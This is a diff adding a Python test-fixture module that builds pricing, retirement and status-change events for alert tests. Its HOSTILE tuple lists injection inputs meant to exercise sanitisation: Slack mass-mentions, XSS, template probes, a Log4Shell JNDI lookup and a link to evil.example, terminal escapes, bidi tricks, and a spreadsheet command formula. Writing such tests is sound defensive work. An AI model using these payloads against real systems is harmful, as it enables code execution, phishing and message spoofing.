@@ -1,0 +1,81 @@
+"""Events as the fold makes them, for the tests of alerts. The figures are invented."""
+
+from collections.abc import Mapping
+from datetime import UTC, datetime, timedelta
+from decimal import Decimal
+from typing import Any
+
+from timeline.events import CaptureRef, Event
+
+AT = datetime(2026, 8, 12, 10, 10, tzinfo=UTC)
+TEN_MINUTES = timedelta(minutes=10)
+
+HOSTILE = (
+    "<!channel> <!here> <@U012AB3CD> <#C024BE7LR> <!subteam^S0615G0KT>",
+    "<https://evil.example/steal|Evidence>",
+    "&lt;!channel&gt; &amp; &#60;",
+    "*bold* _it_ ~no~ `code` ```block``` > quote",
+    "[click](https://evil.example) ![x](https://evil.example/x.png)",
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "{{7*7}} {% include 'secrets' %} ${jndi:ldap://evil.example/a} %(name)s {0.__class__}",
+    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J bell\x07 back\x08",
+    "right\u202eto\u202cleft zero\u200bwidth \u2066isolate\u2069 tag\U000e0041",
+    "line one\nline two\r\n\u2028three\u2029four\x0bfive",
+    "é" * 4000,
+    "👩‍👩‍👧‍👦 العربية עברית 中文 \ud800",
+    "&" * 5000,
+    "=cmd|' /C calc'!A0",
+)
+
+
+def reference(
+    seq: int = 4, at: datetime = AT, url: str = "https://platform.openai.example/docs/pricing.md"
+) -> CaptureRef:
+    return CaptureRef(seq=seq, url=url, captured_at=at, sha256=f"{seq:x}" * 64)
+
+
+def event(kind: str, model: str | None = "gpt-5.6-luna", **changes: Any) -> Event:
+    provider = changes.get("provider", "openai")
+    fields: dict[str, Any] = {
+        "kind": kind,
+        "source": f"{provider}-{'pricing' if kind.startswith('price.') else 'lifecycle'}",
+        "provider": provider,
+        "key": f"{model} {changes.get('meter')} {changes.get('conditions')}",
+        "subject_kind": "model",
+        "model": model,
+        "model_id": model,
+        "observed_after": AT - TEN_MINUTES,
+        "observed_at": AT,
+        "before": reference(3, AT - timedelta(days=1)),
+        "after": reference(),
+        "headline": f"{provider} {kind} {model}",
+    }
+    return Event(**(fields | changes))
+
+
+def side(amount: str | None, **changes: Any) -> Mapping[str, Any]:
+    state = "priced" if amount is not None else "not_offered"
+    return {"amount": amount, "state": state, "currency": "USD", "per": 1_000_000, "unit": "token"} | changes
+
+
+def price(meter: str, before: str, after: str, /, *, kind: str = "price.changed", **changes: Any) -> Event:
+    pct = (Decimal(after) - Decimal(before)) * 100 / Decimal(before)
+    fields: dict[str, Any] = {
+        "meter": meter,
+        "old": side(before),
+        "new": side(after),
+        "change_pct": pct.quantize(Decimal("0.01")),
+        "direction": "cut" if pct < 0 else "rise",
+    }
+    return event(kind, **(fields | changes))
+
+
+def retirement(
+    on: str = "2026-11-26", *, model: str = "gpt-5.6-luna", kind: str = "model.retirement_scheduled"
+) -> Event:
+    none = {"retires_on": None, "not_before": None}
+    return event(kind, model, old=none, new={"retires_on": on, "not_before": None}, effective_at=on)
+
+
+def status(before: str, after: str, *, model: str = "gpt-5.6-luna") -> Event:
+    return event("model.status_changed", model, old={"status": before}, new={"status": after})
